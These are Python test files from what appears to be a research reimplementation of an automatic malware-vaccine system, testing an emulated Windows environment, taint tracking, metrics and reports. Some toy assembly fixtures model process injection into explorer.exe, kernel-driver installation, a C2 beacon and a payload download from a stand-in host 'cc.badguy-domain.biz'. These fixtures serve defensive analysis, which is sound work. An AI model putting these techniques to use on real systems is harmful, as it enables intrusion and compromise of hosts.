    def test_untainted_compare_not_recorded(self):
        cpu = run("    mov eax, 1\n    cmp eax, 2\n    halt\n")
        assert cpu.trace.predicates == []

    def test_indirect_taint_still_flagged(self):
        cpu = run('.section .rdata\nm: .asciz "x"\n.section .data\nv: .space 4\n.section .text\n'
                  "    push m\n    push 0\n    push 0\n    call @OpenMutexA\n"
                  "    mov [v], eax\n    mov ebx, [v]\n    add ebx, 0\n"
                  "    cmp ebx, 0\n    jz d\nd:\n    halt\n")
        assert len(cpu.trace.predicates) == 1

    def test_get_last_error_taint_reaches_predicate(self):
        cpu = run('.section .rdata\nm: .asciz "nonexistent"\n.section .text\n'
                  "    push m\n    push 0\n    push 0\n    call @OpenMutexA\n"
                  "    call @GetLastError\n    cmp eax, 2\n    jz d\nd:\n    halt\n")
        assert any("cmp" in p.instr_text for p in cpu.trace.predicates)


class TestEnvAndRandomTaint:
    def test_computer_name_env_tainted(self):
        cpu = run(".section .data\nb: .space 32\n.section .text\n"
                  "    push 0\n    push b\n    call @GetComputerNameA\n"
                  "    movb eax, [b]\n    halt\n")
        tags = cpu.reg_taint["eax"]
        assert any(t.klass is TaintClass.ENV_DETERMINISTIC for t in tags)

    def test_tick_count_random_tainted(self):
        cpu = run("    call @GetTickCount\n    halt\n")
        assert any(t.klass is TaintClass.RANDOM for t in cpu.reg_taint["eax"])

    def test_string_format_mixes_taint_per_byte(self):
        cpu = run(
            '.section .rdata\nfmt: .asciz "A%sB"\n'
            ".section .data\nname: .space 32\nout: .space 64\n.section .text\n"
            "    push 0\n    push name\n    call @GetComputerNameA\n"
            "    push name\n    push fmt\n    push out\n    call @wsprintfA\n"
            "    add esp, 12\n    halt\n"
        )
        text, taints = cpu.memory.read_cstring(cpu.program.labels["out"])
        assert text == "AWORKSTATION-01B"
        assert not taints[0] and not taints[-1]          # 'A' and 'B' static
        assert all(taints[i] for i in range(1, len(text) - 1))

    def test_strcmp_result_tainted_by_inputs(self):
        cpu = run(
            '.section .rdata\nexp: .asciz "val"\n'
            ".section .data\nbuf: .space 16\n.section .text\n"
            "    push 0\n    push buf\n    call @GetComputerNameA\n"
            "    push exp\n    push buf\n    call @lstrcmpA\n"
            "    cmp eax, 0\n    jz d\nd:\n    halt\n"
        )
        assert len(cpu.trace.predicates) == 1
