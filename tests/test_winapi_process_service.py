"""Process/thread/service/window/library/network/system API tests."""

import pytest

from repro.taint.labels import TaintClass
from repro.winenv import IntegrityLevel, ServiceState, Win32Error

MED = IntegrityLevel.MEDIUM


class TestProcessApis:
    def test_exit_process_terminates_run(self, run_asm):
        cpu = run_asm("    push 7\n    call @ExitProcess\n    halt\n")
        assert cpu.status.value == "terminated"
        assert cpu.process.exit_code == 7

    def test_exit_thread_terminates_single_threaded_guest(self, run_asm):
        cpu = run_asm("    push 0\n    call @ExitThread\n    halt\n")
        assert cpu.status.value == "terminated"

    def test_find_process_returns_pid(self, run_asm, env):
        cpu = run_asm(
            '.section .rdata\nn: .asciz "explorer.exe"\n.section .text\n'
            "    push n\n    call @FindProcessA\n    halt\n"
        )
        assert cpu.regs["eax"] == env.processes.find_by_name("explorer.exe").pid

    def test_find_missing_process_fails(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nn: .asciz "ghost.exe"\n.section .text\n'
            "    push n\n    call @FindProcessA\n    halt\n"
        )
        assert cpu.regs["eax"] == 0

    INJECT = (
        '.section .rdata\nn: .asciz "explorer.exe"\npay: .asciz "XX"\n'
        ".section .data\nh: .dword 0\n.section .text\n"
        "    push n\n    call @FindProcessA\n"
        "    push eax\n    push 0\n    push 0x1F0FFF\n    call @OpenProcess\n"
        "    mov [h], eax\n"
        "    push 0\n    push 2\n    push pay\n    push 0x7F000000\n    push [h]\n"
        "    call @WriteProcessMemory\n"
        "    push 0\n    push 0\n    push 0\n    push 0x7F000000\n    push 0\n    push 0\n    push [h]\n"
        "    call @CreateRemoteThread\n    halt\n"
    )

    def test_injection_low_integrity_denied_by_system_process(self, run_asm):
        cpu = run_asm(self.INJECT, integrity=IntegrityLevel.LOW)
        wpm = cpu.trace.events_for_api("WriteProcessMemory")[0]
        assert not wpm.success
        assert wpm.error == int(Win32Error.ACCESS_DENIED)

    def test_injection_records_remote_writes_at_system(self, run_asm, env):
        cpu = run_asm(self.INJECT, integrity=IntegrityLevel.SYSTEM)
        target = env.processes.find_by_name("explorer.exe")
        assert target.remote_writes and target.remote_threads
        wpm = cpu.trace.events_for_api("WriteProcessMemory")[0]
        assert wpm.extra["target_process"] == "explorer.exe"

    def test_create_process_spawns_child(self, run_asm, env):
        env.filesystem.create("c:\\app.exe", MED, content=b"MZ")
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\app.exe"\n'
            ".section .data\ninfo: .space 8\n.section .text\n"
            "    push info\n    push 0\n    push 0\n    push p\n    call @CreateProcessA\n    halt\n",
            integrity=MED,
        )
        assert cpu.regs["eax"] == 1
        assert env.processes.find_by_name("app.exe") is not None

    def test_create_process_missing_image_fails(self, run_asm):
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\none.exe"\n.section .text\n'
            "    push 0\n    push 0\n    push 0\n    push p\n    call @CreateProcessA\n    halt\n"
        )
        assert cpu.regs["eax"] == 0


class TestServiceApis:
    INSTALL = (
        '.section .rdata\nn: .asciz "drv1"\nb: .asciz "c:\\\\windows\\\\system32\\\\drivers\\\\d.sys"\n'
        ".section .data\nscm: .dword 0\nsvc: .dword 0\n.section .text\n"
        "    push 0xF003F\n    push 0\n    push 0\n    call @OpenSCManagerA\n"
        "    mov [scm], eax\n"
        "    push b\n    push 3\n    push 1\n    push n\n    push n\n    push [scm]\n"
        "    call @CreateServiceA\n"
        "    mov [svc], eax\n"
        "    push 0\n    push 0\n    push [svc]\n    call @StartServiceA\n    halt\n"
    )

    def test_scm_denied_at_low_integrity(self, run_asm):
        cpu = run_asm("    push 0xF003F\n    push 0\n    push 0\n    call @OpenSCManagerA\n    halt\n",
                      integrity=IntegrityLevel.LOW)
        assert cpu.regs["eax"] == 0

    def test_driver_install_flow(self, run_asm, env):
        cpu = run_asm(self.INSTALL, integrity=MED)
        svc = env.services.lookup("drv1")
        assert svc is not None and svc.is_kernel_driver
        assert svc.state is ServiceState.RUNNING
        create_event = cpu.trace.events_for_api("CreateServiceA")[0]
        assert create_event.extra["kernel_driver"] is True

    def test_open_missing_service(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nn: .asciz "nosvc"\n.section .data\nscm: .dword 0\n.section .text\n'
            "    push 0xF003F\n    push 0\n    push 0\n    call @OpenSCManagerA\n"
            "    mov [scm], eax\n"
            "    push 0xF003F\n    push n\n    push [scm]\n    call @OpenServiceA\n    halt\n",
            integrity=MED,
        )
        assert cpu.regs["eax"] == 0
        assert cpu.process.last_error == int(Win32Error.SERVICE_DOES_NOT_EXIST)


class TestWindowLibraryApis:
    def test_find_window_existing(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nc: .asciz "Shell_TrayWnd"\n.section .text\n'
            "    push 0\n    push c\n    call @FindWindowA\n    halt\n"
        )
        assert cpu.regs["eax"] >= 0x100

    def test_find_window_missing(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nc: .asciz "NoWnd"\n.section .text\n'
            "    push 0\n    push c\n    call @FindWindowA\n    halt\n"
        )
        assert cpu.regs["eax"] == 0

    def test_create_window_registers_class(self, run_asm, env):
        run_asm(
            '.section .rdata\nc: .asciz "MyWnd"\nt: .asciz "hi"\n.section .text\n'
            "    push 0\n    push t\n    push c\n    call @CreateWindowExA\n    halt\n"
        )
        assert env.windows.exists("MyWnd")

    def test_load_library_standard(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nd: .asciz "uxtheme.dll"\n.section .text\n'
            "    push d\n    call @LoadLibraryA\n    halt\n"
        )
        assert cpu.regs["eax"] >= 0x100

    def test_load_library_missing(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nd: .asciz "custom_evil.dll"\n.section .text\n'
            "    push d\n    call @LoadLibraryA\n    halt\n"
        )
        assert cpu.regs["eax"] == 0

    def test_get_proc_address_deterministic(self, run_asm):
        src = (
            '.section .rdata\nd: .asciz "kernel32.dll"\nf: .asciz "CreateFileA"\n.section .text\n'
            "    push d\n    call @LoadLibraryA\n"
            "    push f\n    push eax\n    call @GetProcAddress\n    halt\n"
        )
        a = run_asm(src).regs["eax"]
        assert a >= 0x7C800000


class TestNetworkApis:
    BEACON = (
        '.section .rdata\nh: .asciz "cc.badguy-domain.biz"\nmsg: .asciz "HI"\n'
        ".section .data\ns: .dword 0\nbuf: .space 32\n.section .text\n"
        "    push 6\n    push 1\n    push 2\n    call @socket\n"
        "    mov [s], eax\n"
        "    push 80\n    push h\n    push [s]\n    call @connect\n"
        "    push 0\n    push 2\n    push msg\n    push [s]\n    call @send\n"
        "    push 0\n    push 16\n    push buf\n    push [s]\n    call @recv\n"
        "    push [s]\n    call @closesocket\n    halt\n"
    )

    def test_beacon_roundtrip(self, run_asm, env):
        cpu = run_asm(self.BEACON)
        assert env.network.bytes_sent_by(cpu.process.pid) == 2
        text, _ = cpu.memory.read_cstring(cpu.program.labels["buf"])
        assert text.startswith("HTTP/1.1")

    def test_connect_unknown_host_fails(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nh: .asciz "unknown.example"\n.section .data\ns: .dword 0\n.section .text\n'
            "    push 6\n    push 1\n    push 2\n    call @socket\n"
            "    mov [s], eax\n"
            "    push 80\n    push h\n    push [s]\n    call @connect\n    halt\n"
        )
        assert cpu.regs["eax"] == 0xFFFFFFFF

    def test_url_download_creates_file(self, run_asm, env):
        run_asm(
            '.section .rdata\nu: .asciz "http://cc.badguy-domain.biz/p.bin"\n'
            'f: .asciz "c:\\\\windows\\\\temp\\\\p.bin"\n.section .text\n'
            "    push f\n    push u\n    push 0\n    call @URLDownloadToFileA\n    halt\n"
        )
        assert env.filesystem.exists("c:\\windows\\temp\\p.bin")

    def test_dns_query_unknown(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nh: .asciz "bad.unknown"\n.section .text\n'
            "    push h\n    call @DnsQuery_A\n    halt\n"
        )
        assert cpu.regs["eax"] == 9003


class TestSystemApis:
    def test_computer_name_written(self, run_asm, env):
        cpu = run_asm(
            ".section .data\nb: .space 32\n.section .text\n"
            "    push 0\n    push b\n    call @GetComputerNameA\n    halt\n"
        )
        text, _ = cpu.memory.read_cstring(cpu.program.labels["b"])
        assert text == env.identity.computer_name

    def test_user_name_env_tainted(self, run_asm):
        cpu = run_asm(
            ".section .data\nb: .space 32\n.section .text\n"
            "    push 0\n    push b\n    call @GetUserNameA\n    halt\n"
        )
        _, taints = cpu.memory.read_cstring(cpu.program.labels["b"])
        assert all(any(t.klass is TaintClass.ENV_DETERMINISTIC for t in ts) for ts in taints)

    def test_volume_serial(self, run_asm, env):
        cpu = run_asm(
            ".section .data\nv: .space 4\n.section .text\n"
            "    push v\n    push 0\n    call @GetVolumeInformationA\n    halt\n"
        )
        value, tags = cpu.memory.read_u32(cpu.program.labels["v"])
        assert value == env.identity.volume_serial and tags

    def test_tick_count_varies_within_run(self, run_asm):
        cpu = run_asm("    call @GetTickCount\n    mov ebx, eax\n"
                      "    call @GetTickCount\n    halt\n")
        assert cpu.regs["eax"] != cpu.regs["ebx"]

    def test_sleep_and_last_error_roundtrip(self, run_asm):
        cpu = run_asm("    push 100\n    call @Sleep\n"
                      "    push 0x57\n    call @SetLastError\n"
                      "    call @GetLastError\n    halt\n")
        assert cpu.regs["eax"] == 0x57

    def test_get_environment_variable(self, run_asm, env):
        cpu = run_asm(
            '.section .rdata\nn: .asciz "COMPUTERNAME"\n'
            ".section .data\nb: .space 32\n.section .text\n"
            "    push 32\n    push b\n    push n\n    call @GetEnvironmentVariableA\n    halt\n"
        )
        text, _ = cpu.memory.read_cstring(cpu.program.labels["b"])
        assert text == env.identity.computer_name
