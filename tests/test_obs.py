"""``repro.obs`` — metrics registry, span tracer, structured logging,
exporters, and the pipeline/CLI integration."""

import json
import logging

import pytest

from repro import AutoVac, obs
from repro.corpus import build_family
from repro.obs.metrics import MAX_LABEL_SETS, Histogram, MetricsRegistry
from repro.obs.tracer import Tracer
from repro.core.pipeline import STAGES


@pytest.fixture(autouse=True)
def clean_obs():
    """Each test sees an empty global registry/tracer and leaves it enabled."""
    obs.reset()
    obs.metrics.enabled = True
    obs.trace.enabled = True
    yield
    obs.reset()


# ----------------------------------------------------------------------
# metrics registry
# ----------------------------------------------------------------------


class TestCounters:
    def test_counter_inc_and_value(self):
        reg = MetricsRegistry()
        reg.counter("x").inc()
        reg.counter("x").inc(2.5)
        assert reg.value("x") == 3.5

    def test_labels_create_distinct_series(self):
        reg = MetricsRegistry()
        reg.counter("calls", api="OpenMutexA").inc()
        reg.counter("calls", api="CreateFileA").inc(4)
        assert reg.value("calls", api="OpenMutexA") == 1
        assert reg.value("calls", api="CreateFileA") == 4
        assert reg.total("calls") == 5

    def test_label_order_is_irrelevant(self):
        reg = MetricsRegistry()
        reg.counter("c", a="1", b="2").inc()
        assert reg.value("c", b="2", a="1") == 1

    def test_kind_conflict_raises(self):
        reg = MetricsRegistry()
        reg.counter("dual").inc()
        with pytest.raises(TypeError):
            reg.gauge("dual")

    def test_cardinality_cap(self):
        reg = MetricsRegistry()
        for i in range(MAX_LABEL_SETS + 25):
            reg.counter("wild", key=str(i)).inc()
        family = next(f for f in reg.families() if f.name == "wild")
        assert len(family.children) == MAX_LABEL_SETS
        assert reg.dropped_label_sets == 25
        # Overflow label sets get a null instrument, not an exception.
        reg.counter("wild", key="overflow-again").inc()

    def test_gauge_set_inc_dec(self):
        reg = MetricsRegistry()
        g = reg.gauge("fleet.infected")
        g.set(10)
        g.inc(3)
        g.dec()
        assert reg.value("fleet.infected") == 12


class TestHistogram:
    def test_bucketing(self):
        h = Histogram(buckets=(0.01, 0.1, 1.0))
        for v in (0.005, 0.05, 0.5, 5.0, 0.5):
            h.observe(v)
        assert h.bucket_counts == [1, 1, 2, 1]  # last slot = +Inf overflow
        assert h.count == 5
        assert h.sum == pytest.approx(6.055)
        assert h.min == 0.005 and h.max == 5.0
        assert h.mean == pytest.approx(6.055 / 5)

    def test_boundary_lands_in_lower_bucket(self):
        h = Histogram(buckets=(1.0, 2.0))
        h.observe(1.0)
        assert h.bucket_counts == [1, 0, 0]

    def test_timer_observes_elapsed(self):
        reg = MetricsRegistry()
        with reg.timer("op_seconds", op="slice") as t:
            pass
        assert t.elapsed >= 0.0
        family = next(f for f in reg.families() if f.name == "op_seconds")
        (child,) = family.children.values()
        assert child.count == 1


class TestDisabled:
    def test_disabled_registry_hands_out_nulls(self):
        reg = MetricsRegistry()
        reg.enabled = False
        reg.counter("n").inc()
        reg.gauge("n2").set(5)
        reg.histogram("n3").observe(1)
        assert list(reg.families()) == []

    def test_obs_disabled_context(self):
        with obs.disabled():
            assert not obs.is_enabled()
            obs.metrics.counter("hidden").inc()
            with obs.trace.span("invisible"):
                pass
        assert obs.is_enabled()
        assert obs.metrics.total("hidden") == 0
        assert obs.trace.roots == []


# ----------------------------------------------------------------------
# tracer
# ----------------------------------------------------------------------


class TestTracer:
    def test_nesting_builds_a_tree(self):
        tracer = Tracer()
        with tracer.span("root", sample="x") as root:
            with tracer.span("child1"):
                with tracer.span("grandchild"):
                    pass
            with tracer.span("child2") as c2:
                c2.set(items=3)
        assert [c.name for c in root.children] == ["child1", "child2"]
        assert root.children[0].children[0].name == "grandchild"
        assert root.attrs == {"sample": "x"}
        assert root.children[1].attrs == {"items": 3}
        assert tracer.roots == [root]
        assert root.duration is not None and root.duration >= 0

    def test_exception_marks_span_and_reraises(self):
        tracer = Tracer()
        with pytest.raises(ValueError, match="boom"):
            with tracer.span("outer"):
                with tracer.span("inner"):
                    raise ValueError("boom")
        (root,) = tracer.roots
        assert root.status == "error" and "boom" in root.error
        inner = root.children[0]
        assert inner.status == "error" and inner.duration is not None
        # The tracer fully unwound: a new span is a fresh root.
        assert tracer.current() is None
        with tracer.span("next"):
            pass
        assert [s.name for s in tracer.roots] == ["outer", "next"]

    def test_self_seconds_excludes_children(self):
        tracer = Tracer()
        with tracer.span("root") as root:
            with tracer.span("child"):
                pass
        assert root.self_seconds() <= root.total_seconds()

    def test_flame_rendering_aggregates(self):
        tracer = Tracer()
        for _ in range(3):
            with tracer.span("pipeline.analyze"):
                with tracer.span("phase1"):
                    pass
        text = tracer.flame()
        assert "pipeline.analyze  n=3" in text
        assert "phase1" in text and "n=3" in text


# ----------------------------------------------------------------------
# structured logging
# ----------------------------------------------------------------------


class TestLogging:
    def test_key_value_format(self, capsys):
        from repro.obs.log import KeyValueFormatter

        record = logging.LogRecord("repro.t", logging.INFO, __file__, 1,
                                   "did a thing", (), None)
        record.kv_fields = {"sample": "zeus", "note": "two words"}
        line = KeyValueFormatter().format(record)
        assert "level=info" in line
        assert 'msg="did a thing"' in line
        assert "sample=zeus" in line
        assert 'note="two words"' in line

    def test_env_switch_sets_level(self, monkeypatch):
        from repro.obs import log as obslog

        monkeypatch.setenv(obslog.ENV_VAR, "debug")
        obslog.configure()
        assert obslog.get_logger("t").level == logging.DEBUG
        monkeypatch.delenv(obslog.ENV_VAR)
        obslog.configure()
        assert obslog.get_logger("t").level == logging.WARNING


# ----------------------------------------------------------------------
# exporters
# ----------------------------------------------------------------------


class TestExporters:
    def _populate(self):
        obs.metrics.counter("winapi.calls", api="OpenMutexA", outcome="success").inc(7)
        obs.metrics.gauge("campaign.infected").set(3)
        obs.metrics.histogram("pipeline.analyze_seconds").observe(0.02)
        with obs.trace.span("pipeline.analyze", sample="t"):
            with obs.trace.span("phase1"):
                pass

    def test_json_roundtrip(self, tmp_path):
        self._populate()
        path = tmp_path / "snap.json"
        written = obs.export_json(path)
        loaded = obs.load(path)
        assert loaded == json.loads(json.dumps(written))
        calls = loaded["metrics"]["winapi.calls"]
        assert calls["kind"] == "counter"
        assert calls["series"][0]["value"] == 7
        (root,) = loaded["spans"]
        assert root["name"] == "pipeline.analyze"
        assert root["children"][0]["name"] == "phase1"

    def test_load_rejects_non_snapshot(self, tmp_path):
        bad = tmp_path / "bad.json"
        bad.write_text("[1, 2, 3]")
        with pytest.raises(ValueError):
            obs.load(bad)

    def test_prometheus_text(self):
        self._populate()
        text = obs.metrics.to_prometheus()
        assert "# TYPE repro_winapi_calls counter" in text
        assert 'repro_winapi_calls_total{api="OpenMutexA",outcome="success"} 7' in text
        assert "repro_campaign_infected 3" in text
        assert "repro_pipeline_analyze_seconds_count 1" in text
        assert 'le="+Inf"' in text

    def test_prometheus_histogram_is_cumulative(self):
        h = obs.metrics.histogram("h", buckets=(1.0, 2.0))
        h.observe(0.5)
        h.observe(1.5)
        text = obs.metrics.to_prometheus()
        assert 'repro_h_bucket{le="1.0"} 1' in text
        assert 'repro_h_bucket{le="2.0"} 2' in text
        assert 'repro_h_bucket{le="+Inf"} 2' in text

    def test_render_stats_text(self):
        self._populate()
        text = obs.render_stats(obs.export_snapshot())
        assert "winapi.calls{api=OpenMutexA,outcome=success}" in text
        assert "== spans ==" in text and "phase1" in text


# ----------------------------------------------------------------------
# pipeline integration
# ----------------------------------------------------------------------


class TestPipelineIntegration:
    def test_every_stage_emits_exactly_one_span_per_sample(self):
        for family in ("zeus", "conficker"):
            analysis = AutoVac().analyze(build_family(family))
            names = [c.name for c in analysis.span.children]
            for stage in ("phase1", "exclusiveness", "impact", "determinism", "clinic"):
                assert names.count(stage) == 1, (family, stage, names)
            assert set(names) <= set(STAGES)

    def test_filtered_sample_still_emits_all_stage_spans(self):
        from repro.vm.assembler import assemble

        inert = assemble("main:\n    nop\n    halt\n", name="inert")
        analysis = AutoVac().analyze(inert)
        assert analysis.filtered_reason
        by_name = {c.name: c for c in analysis.span.children}
        assert by_name["phase1"].attrs.get("skipped") is None
        for stage in ("exclusiveness", "impact", "determinism", "clinic"):
            assert by_name[stage].attrs.get("skipped") is True

    def test_timings_property_derives_from_spans(self):
        analysis = AutoVac().analyze(build_family("zeus"))
        timings = analysis.timings
        assert {"phase1", "exclusiveness", "impact", "determinism"} <= set(timings)
        assert "clinic" not in timings  # skipped stage omitted
        for stage, seconds in timings.items():
            span = analysis.span.child(stage)
            assert seconds == span.total_seconds() > 0 or seconds == 0

    def test_dispatcher_and_vm_counters_populate(self):
        AutoVac().analyze(build_family("conficker"))
        assert obs.metrics.total("winapi.calls") > 0
        assert obs.metrics.total("winapi.resource_ops") > 0
        assert obs.metrics.total("vm.instructions") > 0
        assert obs.metrics.total("vm.tainted_predicates") > 0
        assert obs.metrics.value("pipeline.samples") == 1

    def test_analysis_without_span_has_empty_timings(self):
        from repro.core.pipeline import SampleAnalysis

        assert SampleAnalysis(program=build_family("zeus")).timings == {}

    def test_disabled_pipeline_produces_no_telemetry_but_same_result(self):
        program = build_family("zeus")
        with obs.disabled():
            analysis = AutoVac().analyze(program)
        assert analysis.vaccines  # behaviour unchanged
        assert analysis.span is None and analysis.timings == {}
        assert obs.trace.roots == []
        assert obs.metrics.total("vm.instructions") == 0

    def test_campaign_gauges(self):
        from repro.campaign import Fleet, simulate_outbreak

        worm = build_family("conficker")
        result = simulate_outbreak(worm, Fleet(size=6, seed=1), rounds=2,
                                   max_steps=50_000)
        assert obs.metrics.value("campaign.round") == 2
        assert obs.metrics.value("campaign.infected") == result.history[-1].infected
        assert obs.metrics.total("campaign.infection_attempts") > 0

    def test_daemon_flush_metrics(self):
        from repro import SystemEnvironment, VaccinePackage, deploy
        from repro.core import DeliveryKind, run_sample

        analysis = AutoVac().analyze(build_family("conficker"))
        host = SystemEnvironment()
        deployment = deploy(VaccinePackage(vaccines=analysis.vaccines), host)
        assert deployment.daemon is not None
        run_sample(build_family("conficker"), environment=host,
                   record_instructions=False)
        deployment.daemon.flush_metrics()
        assert obs.metrics.value("daemon.calls_seen") > 0
        assert obs.metrics.value("daemon.hook_seconds") >= 0


# ----------------------------------------------------------------------
# CLI integration
# ----------------------------------------------------------------------


class TestCliMetrics:
    def test_analyze_metrics_roundtrip(self, tmp_path, capsys):
        from repro.cli import main

        path = tmp_path / "m.json"
        assert main(["analyze", "conficker", "--metrics", str(path)]) == 0
        data = obs.load(path)
        # Acceptance: per-phase spans, per-API counters, VM instruction counts.
        root = next(s for s in data["spans"] if s["name"] == "pipeline.analyze")
        child_names = [c["name"] for c in root["children"]]
        for stage in ("phase1", "exclusiveness", "impact", "determinism", "clinic"):
            assert stage in child_names
        assert any(k.startswith("winapi.calls") for k in data["metrics"])
        assert data["metrics"]["vm.instructions"]["series"][0]["value"] > 0

        capsys.readouterr()
        assert main(["stats", str(path)]) == 0
        out = capsys.readouterr().out
        assert "pipeline.analyze" in out and "phase1" in out
        assert main(["stats", str(path), "--prom"]) == 0
        assert "repro_vm_instructions_total" in capsys.readouterr().out

    def test_survey_metrics(self, tmp_path, capsys):
        from repro.cli import main

        path = tmp_path / "survey.json"
        assert main(["survey", "--size", "6", "--seed", "3",
                     "--metrics", str(path)]) == 0
        data = obs.load(path)
        roots = [s for s in data["spans"] if s["name"] == "pipeline.analyze"]
        assert len(roots) == 6
        assert data["metrics"]["pipeline.samples"]["series"][0]["value"] == 6

    def test_stats_on_garbage_path_errors(self):
        from repro.cli import main

        with pytest.raises(SystemExit):
            main(["stats", "/nonexistent/m.json"])
