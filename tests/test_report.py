"""Markdown analysis reports (core/report.py)."""

from __future__ import annotations

import pytest

from repro.core import AutoVac
from repro.core.clinic import ClinicReport
from repro.core.pipeline import SampleAnalysis
from repro.core.report import _deployment_hint, render_report
from repro.core.vaccine import (
    DeliveryKind,
    IdentifierKind,
    Immunization,
    Mechanism,
    Vaccine,
)
from repro.corpus import benign_suite, build_family
from repro.vm.program import Program
from repro.winenv.objects import ResourceType


@pytest.fixture(scope="module")
def zeus_analysis():
    return AutoVac().analyze(build_family("zeus"))


@pytest.fixture(scope="module")
def zeus_report(zeus_analysis):
    return render_report(zeus_analysis)


class TestFullReport:
    def test_title_defaults_to_program_name(self, zeus_analysis, zeus_report):
        assert zeus_report.startswith(f"# AUTOVAC analysis: {zeus_analysis.program.name}")

    def test_custom_title(self, zeus_analysis):
        text = render_report(zeus_analysis, title="Case study")
        assert text.startswith("# Case study")

    def test_metadata_line_hides_markers(self, zeus_report):
        assert "*Sample metadata:*" in zeus_report
        assert "family=zeus" in zeus_report
        assert "markers=" not in zeus_report

    def test_phase1_summary(self, zeus_analysis, zeus_report):
        phase1 = zeus_analysis.phase1
        assert "## Phase I — profiling" in zeus_report
        assert f"resource-API occurrences: {phase1.total_occurrences} " in zeus_report
        assert f"candidate resources: {len(phase1.candidates)}" in zeus_report

    def test_exclusiveness_table(self, zeus_analysis, zeus_report):
        assert "## Phase II — exclusiveness decisions" in zeus_report
        assert "| resource | identifier | exclusive | reason |" in zeus_report
        for decision in zeus_analysis.exclusiveness:
            assert f"`{decision.candidate.identifier}`" in zeus_report

    def test_every_vaccine_gets_a_section(self, zeus_analysis, zeus_report):
        assert "## Vaccines" in zeus_report
        for vaccine in zeus_analysis.vaccines:
            assert f"`{vaccine.identifier}`" in zeus_report
            assert f"**{vaccine.immunization.value}**" in zeus_report

    def test_timings_section_lists_executed_stages(self, zeus_analysis, zeus_report):
        assert "## Timings" in zeus_report
        for stage in zeus_analysis.timings:
            assert f"* {stage}: " in zeus_report
        assert "* clinic: " not in zeus_report  # skipped stages stay out


class TestFilteredReport:
    def test_filtered_sample_renders_short_report(self):
        office = next(p for p in benign_suite() if p.name == "benign_office")
        analysis = AutoVac().analyze(office)
        assert analysis.filtered_reason
        text = render_report(analysis)
        assert "**Filtered in Phase I**" in text
        assert analysis.filtered_reason in text
        assert "## Vaccines" not in text


class TestClinicSection:
    def test_clinic_summary_rendered(self):
        vaccine = Vaccine(
            malware="m",
            resource_type=ResourceType.MUTEX,
            identifier="Global\\x",
            identifier_kind=IdentifierKind.STATIC,
            mechanism=Mechanism.SIMULATE_PRESENCE,
            immunization=Immunization.FULL,
            operations=frozenset(),
            apis=(),
        )
        analysis = SampleAnalysis(
            program=Program(name="m", instructions=[], labels={}),
            filtered_reason=None,
            vaccines=[vaccine],
            clinic=ClinicReport(programs_tested=3, passed=[vaccine]),
        )
        # phase1 is required for an unfiltered report; fake the minimum.
        analysis.phase1 = AutoVac().analyze(build_family("zeus")).phase1
        text = render_report(analysis)
        assert "## Clinic test" in text
        assert "* benign programs: 3" in text
        assert "* vaccines passed: 1" in text


class TestDeploymentHints:
    def _vaccine(self, **kw):
        base = dict(
            malware="m",
            resource_type=ResourceType.MUTEX,
            identifier="Global\\x",
            identifier_kind=IdentifierKind.STATIC,
            mechanism=Mechanism.SIMULATE_PRESENCE,
            immunization=Immunization.FULL,
            operations=frozenset(),
            apis=(),
        )
        base.update(kw)
        return Vaccine(**base)

    def test_direct_injection_marker_hint(self):
        vaccine = self._vaccine()
        assert vaccine.delivery is DeliveryKind.DIRECT_INJECTION
        assert "create the marker once" in _deployment_hint(vaccine)

    def test_direct_injection_decoy_hint(self):
        vaccine = self._vaccine(
            resource_type=ResourceType.FILE,
            identifier="c:\\x",
            mechanism=Mechanism.ENFORCE_FAILURE,
        )
        assert vaccine.delivery is DeliveryKind.DIRECT_INJECTION
        assert "locked decoy" in _deployment_hint(vaccine)

    def test_slice_replay_hint(self):
        vaccine = self._vaccine(
            identifier_kind=IdentifierKind.ALGORITHM_DETERMINISTIC
        )
        assert vaccine.delivery is DeliveryKind.DAEMON
        assert "replays the generation slice" in _deployment_hint(vaccine)

    def test_daemon_interception_hint(self):
        vaccine = self._vaccine(identifier_kind=IdentifierKind.PARTIAL_STATIC)
        assert vaccine.delivery is DeliveryKind.DAEMON
        assert "intercepts matching resource accesses" in _deployment_hint(vaccine)
