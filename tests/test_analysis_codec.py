"""The versioned SampleAnalysis codec (repro.tracing.serialize).

This is the payload that crosses the worker-process boundary and lives in
the result cache, so the round-trip has to preserve everything the
population tables, vaccine deployment, and span-derived timings consume —
while dropping live VM state (runs, alignments, backward-slice raw output).
"""

from __future__ import annotations

import json

import pytest

from repro.core import AutoVac
from repro.corpus import benign_suite, build_family
from repro.tracing import serialize


@pytest.fixture(scope="module")
def zeus_analysis():
    return AutoVac().analyze(build_family("zeus"))


@pytest.fixture(scope="module")
def filtered_analysis():
    office = next(p for p in benign_suite() if p.name == "benign_office")
    analysis = AutoVac().analyze(office)
    assert analysis.filtered_reason  # no resource-dependent branch
    return analysis


class TestRoundTrip:
    def test_vaccines_survive_exactly(self, zeus_analysis):
        decoded = serialize.analysis_from_json(
            serialize.analysis_to_json(zeus_analysis)
        )
        assert [v.to_dict() for v in decoded.vaccines] == [
            v.to_dict() for v in zeus_analysis.vaccines
        ]
        assert decoded.vaccines  # zeus does yield vaccines

    def test_program_summary_survives(self, zeus_analysis):
        decoded = serialize.analysis_from_json(
            serialize.analysis_to_json(zeus_analysis)
        )
        assert decoded.program.name == zeus_analysis.program.name
        assert decoded.program.metadata["family"] == "zeus"
        # The decoded program is a summary stub, not an executable image.
        assert decoded.program.instructions == []

    def test_phase1_stats_survive(self, zeus_analysis):
        decoded = serialize.analysis_from_json(
            serialize.analysis_to_json(zeus_analysis)
        )
        original = zeus_analysis.phase1
        assert decoded.phase1.total_occurrences == original.total_occurrences
        assert decoded.phase1.influential_occurrences == original.influential_occurrences
        assert len(decoded.phase1.candidates) == len(original.candidates)
        assert [c.key for c in decoded.phase1.candidates] == [
            c.key for c in original.candidates
        ]
        assert (
            decoded.phase1.trace.count_by_resource_operation()
            == original.trace.count_by_resource_operation()
        )
        # Hermeticity: the live run (CPU + guest memory) does not round-trip.
        assert decoded.phase1.run is None

    def test_phase2_payloads_survive(self, zeus_analysis):
        decoded = serialize.analysis_from_json(
            serialize.analysis_to_json(zeus_analysis)
        )
